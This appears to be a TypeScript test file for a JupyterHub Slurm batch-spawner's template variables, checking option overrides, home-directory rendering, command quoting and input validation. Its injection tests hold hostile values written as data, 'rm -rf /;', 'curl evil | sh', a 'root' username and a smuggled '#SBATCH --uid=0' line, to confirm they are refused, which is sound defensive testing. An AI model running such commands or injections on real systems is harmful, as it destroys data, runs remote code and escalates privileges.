/**
 * Issue 11: the variables of a batch script (src/spawners/batch/template-vars.ts):
 * `req_*` values by short name, user options overriding only the declared
 * ones, the rendered home, keepvars and the quoted command.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { HubError } from '../../src/lib/errors.js';
import { batchTemplateVars, type BatchTemplateInput } from '../../src/spawners/batch/template-vars.js';
import { renderTemplate, TemplateError } from '../../src/spawners/batch/script-template.js';
import { SLURM_DEFAULT_SCRIPT } from '../../src/spawners/batch/slurm.js';

const INPUT: BatchTemplateInput = {
  req: { partition: 'debug', runtime: '01:00:00', nprocs: 1, srun: 'srun', prologue: 'module load x', homedir: '/home/{{username}}', keepvars_extra: 'LANG, TZ,,' },
  username: 'carol.proj1',
  hubUsername: 'carol',
  serverName: '',
  env: { JUPYTERHUB_API_TOKEN: 'secret', JUPYTERHUB_API_URL: 'http://hub:8081/hub/api', LANG: 'C' },
  cmd: ['batchspawner-singleuser', 'jupyterhub-singleuser', "--arg=it's"],
  userOptions: {},
};

describe('batchTemplateVars', () => {
  it('gives every req_* value by its short name, empty when not set', () => {
    const vars = batchTemplateVars(INPUT);
    for (const name of ['account', 'qos', 'memory', 'ngpus', 'gres', 'reservation', 'options', 'epilogue']) assert.equal(vars[name], '', name);
    assert.equal(vars['partition'], 'debug');
    assert.equal(vars['runtime'], '01:00:00');
    assert.equal(vars['nprocs'], 1);
    assert.equal(vars['srun'], 'srun');
    assert.equal(vars['prologue'], 'module load x');
    assert.equal(vars['keepvars_extra'], undefined);
  });

  it('renders homedir, joins keepvars without values or repeats, quotes cmd', () => {
    const vars = batchTemplateVars(INPUT);
    assert.equal(vars['homedir'], '/home/carol.proj1');
    assert.equal(vars['keepvars'], 'JUPYTERHUB_API_TOKEN,JUPYTERHUB_API_URL,LANG,TZ');
    assert.equal(vars['cmd'], "'batchspawner-singleuser' 'jupyterhub-singleuser' '--arg=it'\\''s'");
    assert.doesNotMatch(JSON.stringify(vars), /secret/);
  });

  it('names the users and the server, and passes user_options and auth_state', () => {
    const vars = batchTemplateVars({ ...INPUT, serverName: 'gpu', userOptions: { partition: 'gpu' }, authState: { p: { username: 'u' } } });
    assert.equal(vars['username'], 'carol.proj1');
    assert.equal(vars['hub_username'], 'carol');
    assert.equal(vars['server_name'], 'gpu');
    assert.deepEqual(vars['user_options'], { partition: 'gpu' });
    assert.deepEqual(vars['auth_state'], { p: { username: 'u' } });
    assert.deepEqual(batchTemplateVars(INPUT)['auth_state'], {});
  });

  it('lets user options override the declared req_* names only', () => {
    const vars = batchTemplateVars({
      ...INPUT,
      userOptions: {
        partition: 'gpu',
        runtime: '02:00:00',
        ngpus: 2,
        reservation: 'r1',
        options: '--nodes=1',
        account: 'a',
        qos: 'q',
        memory: '4G',
        gres: 'gpu:1',
        nprocs: 4,
        srun: 'rm -rf /;',
        prologue: 'curl evil | sh',
        epilogue: 'x',
        homedir: '/tmp',
        keepvars: 'X',
        keepvars_extra: 'Y',
        cmd: 'sh',
        username: 'root',
      },
    });
    assert.deepEqual(
      [vars['partition'], vars['runtime'], vars['ngpus'], vars['reservation'], vars['options'], vars['account'], vars['qos'], vars['memory'], vars['gres'], vars['nprocs']],
      ['gpu', '02:00:00', 2, 'r1', '--nodes=1', 'a', 'q', '4G', 'gpu:1', 4],
    );
    assert.equal(vars['srun'], 'srun');
    assert.equal(vars['prologue'], 'module load x');
    assert.equal(vars['epilogue'], '');
    assert.equal(vars['homedir'], '/home/carol.proj1');
    assert.equal(vars['keepvars'], 'JUPYTERHUB_API_TOKEN,JUPYTERHUB_API_URL,LANG,TZ');
    assert.match(String(vars['cmd']), /^'batchspawner-singleuser'/);
    assert.equal(vars['username'], 'carol.proj1');
  });

  it('a user option set to null keeps the configured value', () => {
    assert.equal(batchTemplateVars({ ...INPUT, userOptions: { partition: null } })['partition'], 'debug');
  });

  it('adds declared form fields as variables, never over a built-in one', () => {
    const vars = batchTemplateVars({
      ...INPUT,
      formFields: ['brics_project', 'partition', 'cmd', 'homedir', 'prologue', 'not_given'],
      userOptions: { brics_project: 'proj1.brics', partition: 'p', cmd: 'evil', homedir: '/x', prologue: 'evil', undeclared: 'u' },
    });
    assert.equal(vars['brics_project'], 'proj1.brics');
    assert.equal(vars['partition'], 'p');
    assert.match(String(vars['cmd']), /^'batchspawner-singleuser'/);
    assert.equal(vars['homedir'], '/home/carol.proj1');
    assert.equal(vars['prologue'], 'module load x');
    assert.equal(vars['undeclared'], undefined);
    assert.equal(Object.hasOwn(vars, 'not_given'), false);
  });

  it('renders a BriCS-style homedir from a form field and the auth state', () => {
    const vars = batchTemplateVars({
      ...INPUT,
      req: { ...INPUT.req, homedir: "/home/{{ brics_project.split('.')[0] }}/{{ auth_state[brics_project].username }}" },
      formFields: ['brics_project'],
      userOptions: { brics_project: 'proj1.brics' },
      authState: { 'proj1.brics': { username: 'carol.proj1' } },
    });
    assert.equal(vars['homedir'], '/home/proj1/carol.proj1');
  });

  it('defaults homedir to /home/<system user>', () => {
    assert.equal(batchTemplateVars({ ...INPUT, req: {} })['homedir'], '/home/carol.proj1');
  });

  const BAD_HOMES: [string, RegExp][] = [
    ['{{ nothing }}', /req_homedir.*"", which is not an absolute path/],
    ['home/{{username}}', /"home\/carol.proj1"/],
    ['/home/{{ user_options.p }}', /not an absolute path without spaces/],
    ['/home/{{ nope.x() }}', /the req_homedir template does not render/],
  ];
  for (const [homedir, message] of BAD_HOMES) {
    it(`refuses req_homedir ${JSON.stringify(homedir)}`, () => {
      assert.throws(
        () => batchTemplateVars({ ...INPUT, req: { homedir }, userOptions: { p: 'a b' } }),
        (err: unknown) => err instanceof TemplateError && message.test(err.message),
      );
    });
  }

  const BAD_VALUES: [string, unknown, RegExp][] = [
    ['partition', 'a\nb', /Option "partition" holds a line break/],
    ['options', '--x\r', /Option "options" holds a line break/],
    ['runtime', '1\u2028', /line break/],
    ['ngpus', Infinity, /Option "ngpus" must be a string or a finite number/],
    ['ngpus', NaN, /finite number/],
    ['partition', ['a'], /Option "partition" must be a string/],
    ['partition', { a: 1 }, /must be a string/],
    ['partition', true, /must be a string/],
  ];
  for (const [name, value, message] of BAD_VALUES) {
    it(`refuses the user option ${name}=${String(value).replace(/\s/g, '␣')} with a 400`, () => {
      assert.throws(
        () => batchTemplateVars({ ...INPUT, userOptions: { [name]: value } }),
        (err: unknown) => err instanceof HubError && err.status === 400 && message.test(err.message),
      );
    });
  }

  it('refuses a form-field value with a line break too', () => {
    assert.throws(() => batchTemplateVars({ ...INPUT, formFields: ['f'], userOptions: { f: 'x\n#SBATCH --uid=0' } }), (err: unknown) => err instanceof HubError && err.status === 400);
  });

  it('feeds the default Slurm script', () => {
    const script = renderTemplate(SLURM_DEFAULT_SCRIPT, batchTemplateVars({ ...INPUT, userOptions: { partition: 'gpu', ngpus: 2 } }), 'batch_script');
    assert.match(script, /^#SBATCH --output=\/home\/carol.proj1\/jupyterhub_slurmspawner_%j.log$/m);
    assert.match(script, /^#SBATCH --export=JUPYTERHUB_API_TOKEN,JUPYTERHUB_API_URL,LANG,TZ$/m);
    assert.match(script, /^#SBATCH --partition=gpu$/m);
    assert.match(script, /^#SBATCH --gpus=2$/m);
    assert.match(script, /^#SBATCH --time=01:00:00$/m);
    assert.match(script, /^srun 'batchspawner-singleuser' 'jupyterhub-singleuser' '--arg=it'\\''s'$/m);
  });
});
